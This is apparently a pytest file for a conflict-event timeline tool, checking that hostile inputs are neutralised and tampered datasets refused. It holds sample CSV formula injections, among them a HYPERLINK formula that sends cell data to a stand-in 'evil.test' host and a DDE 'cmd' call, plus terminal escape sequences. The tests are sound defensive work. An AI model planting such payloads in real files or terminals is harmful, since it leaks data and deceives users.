"""Issue 17, what the job shows and hands on: hostile text made harmless, tampered datasets refused.

Each test reproduces an attack of the hostile-input test on the outputs:
dates at the calendar's ends in every timeline format, spreadsheet formulas in
csv cells, terminal escapes in the table and in error messages, a dataset
edited after it was written, a manifest truncated or with forged row counts,
and the operational errors (a closed pipe, a missing output folder, ``--out .``,
a full disk, a wild ``--width``, a very long title or a line break in a name
on the png).
"""

from __future__ import annotations

import errno
import io
import json
import shutil
import subprocess
import sys
from datetime import date
from pathlib import Path
from typing import Any

import numpy as np
import pytest

import curation
from curation.cli import main
from curation.errors import DatasetError
from curation.terminal import inert
from curation.timelines import FORMATS, read_csv, render, timeline, to_csv
from curation.timelines.plot import to_png
from curation.write import MANIFEST, manifest_text
from tests import timeline_fixture
from tests.conftest import ROOT
from tests.timeline_fixture import write_fixture


def _event(key: str, d0: date | None, d1: date | None, precision: str | None) -> tuple[Any, ...]:
    return (key, "harbor", f"Artillery attacked the town, report {key} says.", "attacked", "ASSAULT", "RUS-MIL",
            "UKR", d0, d1, precision, "actual", "asserted", 0.9, 1)


# ---------------------------------------------------------------- item 9: the calendar's ends

def test_event_dates_at_the_calendars_ends_render_in_every_format(tmp_path: Path) -> None:
    ds = write_fixture(tmp_path / "ds", extra_events=[
        _event("last-day", date(9999, 12, 31), date(9999, 12, 31), "day"),
        _event("first-day", date(1, 1, 1), date(1, 1, 1), "day"),
        _event("last-century", date(9901, 1, 1), date(9999, 12, 31), "century"),
    ])
    df = timeline(ds)
    for fmt in FORMATS:
        assert render(df, fmt), fmt
    table = render(df, "table").decode("utf-8")
    assert "31 December 9999" in table and "1 January 1 " in table and "100th century" in table
    assert "31 December 9999" in render(df, "html").decode("utf-8")


# ---------------------------------------------------------------- item 12: spreadsheet formulas

FORMULAS = ['=HYPERLINK("https://evil.test/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\tindented", "'quoted already"]


@pytest.mark.parametrize("hostile", FORMULAS)
def test_csv_cells_never_start_a_formula_and_read_back_as_written(tmp_path: Path, hostile: str) -> None:
    ds = write_fixture(tmp_path / "ds", article_overrides={
        "harbor": (date(2022, 3, 2), hostile, hostile, "https://news.test/a/1")})
    df = timeline(ds)
    text = to_csv(df)
    import csv

    rows = list(csv.reader(io.StringIO(text)))
    cells = [c for r in rows[1:] for c in r]
    assert f"'{hostile}" in cells  # the publisher, shown as text
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c))]
    back = read_csv(io.StringIO(text))
    mine = back[back["publisher"].eq(hostile)]
    assert len(mine) and set(mine["title"]) == {hostile}


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


# ---------------------------------------------------------------- item 13: terminal escapes

CLEAR = "\x1b[2J\x1b[3J"  # clear the screen and the scrollback
TITLE = "\x1b]0;owned\x07"  # set the window title
RLO = "\u202e"  # right-to-left override: the rest of the line reads backwards


def test_control_characters_from_data_never_reach_the_terminal(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                               capsys: pytest.CaptureFixture[str]) -> None:
    actors = [(a, f"{n}{RLO}" if a == "UKR" else n, *rest) for a, n, *rest in timeline_fixture.ACTORS]
    monkeypatch.setattr(timeline_fixture, "ACTORS", actors)
    ds = write_fixture(tmp_path / "ds", article_overrides={
        "harbor": (date(2022, 3, 2), f"Harbor{CLEAR}\x00Wire", f"Dawn{TITLE}", None)})
    assert main(["timeline", str(ds), "--format", "table", "--width", "160"]) == 0
    out = capsys.readouterr().out
    assert "Harbor\\x1b[2J" in out and "Ukraine\\u202e" in out
    assert not [ch for ch in out if ch in "\x1b\x00\x07" + RLO]
    # An error message quoting the user's own argument.
    assert main(["timeline", str(ds), "--actor", f"X{TITLE}{CLEAR}"]) == 2
    err = capsys.readouterr().err
    assert "E070" in err and "\\x1b]0;owned\\x07" in err and "\x1b" not in err and "\x07" not in err


def test_inert_json_is_the_same_json() -> None:
    value = {"publisher": f"a{CLEAR}b{RLO}c\x85\ud800", "n": 3}
    text = inert(json.dumps(value, ensure_ascii=False), as_json=True)
    assert json.loads(text) == value
    assert not [ch for ch in text if ch in "\x1b\x85" + RLO]


# ---------------------------------------------------------------- item 14: tampered datasets

def _part(ds: Path, table: str) -> Path:
    return sorted((ds / table).rglob("*.parquet"))[0]


@pytest.mark.parametrize("attack", ["deleted partition", "extra part", "flipped bit"])
def test_load_and_timeline_refuse_files_the_manifest_does_not_record(tmp_path: Path, attack: str,
                                                                      capsys: pytest.CaptureFixture[str]) -> None:
    ds = write_fixture(tmp_path / "ds")
    n = len(curation.load(ds)["events"])
    if attack == "deleted partition":
        shutil.rmtree(ds / "events" / "year=2023")
        expected = "is missing"
    elif attack == "extra part":
        part = _part(ds, "events")
        shutil.copy(part, part.with_name("part-9.parquet"))
        expected = "is not in the manifest"
    else:
        part = _part(ds, "events")
        data = bytearray(part.read_bytes())
        data[len(data) // 2] ^= 0x01
        part.write_bytes(bytes(data))
        expected = "other bytes than the manifest records"
    with pytest.raises(DatasetError, match=f"E046.*{expected}"):
        curation.load(ds)
    assert main(["timeline", str(ds)]) == 2
    assert "E046" in capsys.readouterr().err
    if attack != "flipped bit":  # the folder as it is, when asked for (a flipped bit may not be Parquet any more)
        as_is = len(curation.load(ds, verify=False)["events"])
        assert as_is < n if attack == "deleted partition" else as_is > n


def test_an_intact_dataset_loads_verified(tmp_path: Path) -> None:
    ds = write_fixture(tmp_path / "ds")
    assert len(curation.load(ds)["events"]) == len(timeline_fixture.EVENTS)


# ---------------------------------------------------------------- item 15: the manifest itself

def test_forged_row_counts_fail_validation(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    ds = write_fixture(tmp_path / "ds")

    def failed() -> list[dict[str, Any]]:
        main(["validate", str(ds), "--json"])
        return [c for c in json.loads(capsys.readouterr().out)["checks"] if not c["success"]]

    before = failed()  # the hand-written fixture breaks some row rules on purpose
    assert "dataset.row_counts_match_manifest" not in [c["name"] for c in before]
    manifest = json.loads((ds / MANIFEST).read_text("utf-8"))
    manifest["row_counts"]["events"] += 5
    (ds / MANIFEST).write_text(manifest_text(manifest), encoding="utf-8")
    assert main(["validate", str(ds)]) == 1
    capsys.readouterr()
    after = failed()
    new = [c for c in after if c["name"] not in {b["name"] for b in before}]
    assert [c["name"] for c in new] == ["dataset.row_counts_match_manifest"] and new[0]["blocking"]
    from curation.validate import validate_dataset

    check = next(c for c in validate_dataset(ds).checks if c.name == "dataset.row_counts_match_manifest")
    assert [e.value for e in check.examples] == ["events: 8 rows, the manifest says 13"]


@pytest.mark.parametrize("damage", ["truncated", "list", "files a list"])
def test_a_damaged_manifest_is_a_clear_error(tmp_path: Path, damage: str, capsys: pytest.CaptureFixture[str]) -> None:
    ds = write_fixture(tmp_path / "ds")
    text = (ds / MANIFEST).read_text("utf-8")
    broken = {"truncated": text[: len(text) // 2], "list": "[1, 2, 3]",
              "files a list": json.dumps({**json.loads(text), "files": ["events/part-0.parquet"]})}
    (ds / MANIFEST).write_text(broken[damage], encoding="utf-8")
    for command in (["validate", str(ds)], ["timeline", str(ds)]):
        assert main(command) == 2
        err = capsys.readouterr().err
        assert "E045" in err and "Traceback" not in err


# ---------------------------------------------------------------- item 21: operational errors

def test_a_closed_pipe_is_not_a_traceback(tmp_path: Path) -> None:
    ds = write_fixture(tmp_path / "ds")
    proc = subprocess.Popen([sys.executable, "-m", "curation.cli", "validate", str(ds), "--json"], cwd=ROOT,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert proc.stdout is not None and proc.stderr is not None
    assert proc.stdout.read(10)
    proc.stdout.close()  # as `| head -c 10` does
    err = proc.stderr.read().decode("utf-8")
    proc.stderr.close()
    assert proc.wait(timeout=120) in (0, 1, 141)
    assert "Traceback" not in err and "BrokenPipe" not in err


def test_timeline_output_into_a_missing_folder_is_a_coded_error(tmp_path: Path,
                                                               capsys: pytest.CaptureFixture[str]) -> None:
    ds = write_fixture(tmp_path / "ds")
    assert main(["timeline", str(ds), "--output", str(tmp_path / "no" / "such" / "t.html")]) == 2
    err = capsys.readouterr().err
    assert "E069" in err and "No such file or directory" in err


@pytest.mark.parametrize("width", ["100000000", "0", "-5"])
def test_timeline_width_is_bounded(tmp_path: Path, width: str, capsys: pytest.CaptureFixture[str]) -> None:
    ds = write_fixture(tmp_path / "ds")
    assert main(["timeline", str(ds), "--width", width]) == 2
    assert "E068" in capsys.readouterr().err


def test_out_dot_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from curation.write import open_staging

    here = tmp_path / "work"
    here.mkdir()
    monkeypatch.chdir(here)
    for out in (".", str(tmp_path), "/"):
        with pytest.raises(DatasetError, match="E044"):
            open_staging(Path(out))
    assert not list(tmp_path.iterdir())[1:]  # nothing staged anywhere


def _article(folder: Path, name: str, text: str) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_text(f"title: {name}\npublished: 2024-03-04\n\n{text}\n", encoding="utf-8")


def test_a_full_disk_is_a_coded_error_and_the_previous_dataset_stays(tmp_path: Path,
                                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    from curation import pipeline

    inputs, out = tmp_path / "in", tmp_path / "ds"
    _article(inputs, "a.txt", "Russian forces attacked the Ukrainian town of Pinewood on Monday.")
    pipeline.run([inputs], out, cache=False, progress=False)
    before = (out / MANIFEST).read_bytes()
    _article(inputs, "b.txt", "Ukraine accused Russia of shelling the port on Tuesday.")

    def full(*args: Any, **kwargs: Any) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(pipeline, "commit_staging", full)
    with pytest.raises(DatasetError, match=r"E047.*No space left on device"):
        pipeline.run([inputs], out, cache=False, progress=False)
    assert (out / MANIFEST).read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["ds", "in"]  # no staging folder left behind


def test_an_interrupted_validation_stops_its_process_and_leaves_no_staging(tmp_path: Path,
                                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    from curation import pipeline
    from curation.validate.background import BackgroundValidator

    inputs, out = tmp_path / "in", tmp_path / "ds"
    _article(inputs, "a.txt", "Russian forces attacked the Ukrainian town of Pinewood on Monday.")
    aborted: list[BackgroundValidator] = []
    real_abort = BackgroundValidator.abort

    def abort(self: BackgroundValidator) -> None:
        aborted.append(self)
        real_abort(self)

    def interrupted(*args: Any, **kwargs: Any) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(BackgroundValidator, "abort", abort)
    monkeypatch.setattr(pipeline, "_validate_reusing", interrupted)
    with pytest.raises(KeyboardInterrupt):
        pipeline.run([inputs], out, cache=False, progress=False)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in"]
    assert aborted and all(not v._proc.is_alive() for v in aborted)


# ---------------------------------------------------------------- item 25: the png

def _ink(png: bytes) -> tuple[Any, int, int]:
    """Image shape and the first and last columns with ink between the title and the footer."""
    from matplotlib.image import imread

    pixels = imread(io.BytesIO(png))[..., :3]
    body = pixels[int(pixels.shape[0] * 0.15):int(pixels.shape[0] * 0.85)].mean(axis=2) < 0.6
    cols = np.where(body.any(axis=0))[0]
    return pixels.shape, int(cols.min()), int(cols.max())


def test_a_long_title_leaves_the_png_labels_in_place(tmp_path: Path) -> None:
    df = timeline(write_fixture(tmp_path / "ds"))
    short = _ink(to_png(df, title="Timeline of Russia"))
    long = _ink(to_png(df, title="Timeline of " + ", ".join(["Russia", "Ukraine", "NATO"] * 60)))
    assert long == short and short[1] > 5  # the labels start inside the image, as with a short title


def test_a_line_break_in_an_actor_name_keeps_one_line_per_label(tmp_path: Path,
                                                                monkeypatch: pytest.MonkeyPatch) -> None:
    from matplotlib.image import imread

    images = []
    for name in ("Ukr aine", "Ukr\naine"):
        actors = [(a, name if a == "UKR" else n, *rest) for a, n, *rest in timeline_fixture.ACTORS]
        monkeypatch.setattr(timeline_fixture, "ACTORS", actors)
        df = timeline(write_fixture(tmp_path / f"ds{len(images)}"))
        images.append(imread(io.BytesIO(to_png(df))))
    plain, broken = images
    assert plain.shape == broken.shape
    rows = int(plain.shape[0] * 0.9)  # all but the footer, which names each dataset's own manifest sha256
    assert np.array_equal(plain[:rows], broken[:rows])


@pytest.mark.parametrize("command", ["timeline", "validate"])
def test_an_interrupted_write_leaves_the_previous_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                       command: str) -> None:
    import os as os_module

    ds = write_fixture(tmp_path / "ds")
    target = tmp_path / "page.html"
    target.write_text("the previous page", encoding="utf-8")

    def interrupted(*args: Any) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(os_module, "fsync", interrupted)  # after the bytes are written, before the rename
    args = (["timeline", str(ds), "--output", str(target)] if command == "timeline"
            else ["validate", str(ds), "--report", str(target)])
    assert main(args) == 130
    assert target.read_text(encoding="utf-8") == "the previous page"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["ds", "page.html"]  # no partial file left


# ---------------------------------------------------------------- every --output names a format curate writes

@pytest.mark.parametrize(("args", "code"), [
    (["--output", "t.xlsx"], "E067"),
    (["--format", "csv", "--output", "t.xlsx"], "E067"),
    (["--format", "png", "--output", "t.csv"], "E066"),
    (["--check", "t.pdf"], "E067"),
])
def test_an_output_extension_curate_does_not_write_is_an_error(tmp_path: Path, args: list[str], code: str,
                                                               capsys: pytest.CaptureFixture[str]) -> None:
    ds = write_fixture(tmp_path / "ds")
    args = [str(tmp_path / a) if a.startswith("t.") else a for a in args]
    assert main(["timeline", str(ds), *args]) == 2
    err = capsys.readouterr().err
    assert code in err and (".csv" in err or "csv" in err)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["ds"]  # nothing written under a misleading name


def test_the_table_is_written_to_a_txt_file(tmp_path: Path) -> None:
    ds = write_fixture(tmp_path / "ds")
    assert main(["timeline", str(ds), "--output", str(tmp_path / "t.txt")]) == 0
    assert (tmp_path / "t.txt").read_text("utf-8").startswith("# timeline:")


def test_a_report_that_is_not_html_is_refused_before_validating(tmp_path: Path,
                                                                capsys: pytest.CaptureFixture[str]) -> None:
    ds = write_fixture(tmp_path / "ds")
    assert main(["validate", str(ds), "--report", str(tmp_path / "report.pdf")]) == 2
    assert "E063" in capsys.readouterr().err and not (tmp_path / "report.pdf").exists()
